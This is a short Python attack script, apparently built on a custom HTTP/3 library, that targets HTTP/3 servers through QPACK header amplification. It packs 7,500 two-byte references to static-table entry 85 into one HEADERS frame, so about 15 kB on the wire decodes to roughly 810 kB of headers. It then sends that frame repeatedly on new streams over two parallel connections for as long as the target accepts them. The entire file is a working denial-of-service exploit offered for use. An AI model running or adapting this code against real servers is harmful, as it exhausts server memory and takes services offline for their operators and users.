"""Headers of 16 kB whose fields are 7,500 fields of the static table (RFC 9204, 7.1)."""

from wire.http3 import HEADERS, fields, frame, http3


async def attack(target):
    # Two bytes for entry 85 of the static table, content-security-policy: 76 bytes, and 32 that each field is counted for.
    block = fields() + b"\xff\x16" * 7500

    async def lane(number):
        async with http3(target, target.source(number)) as it:
            while it and target.goes_on():
                await it.send(it.stream(), frame(HEADERS, block), end=True)

    await target.lanes(2, lane)
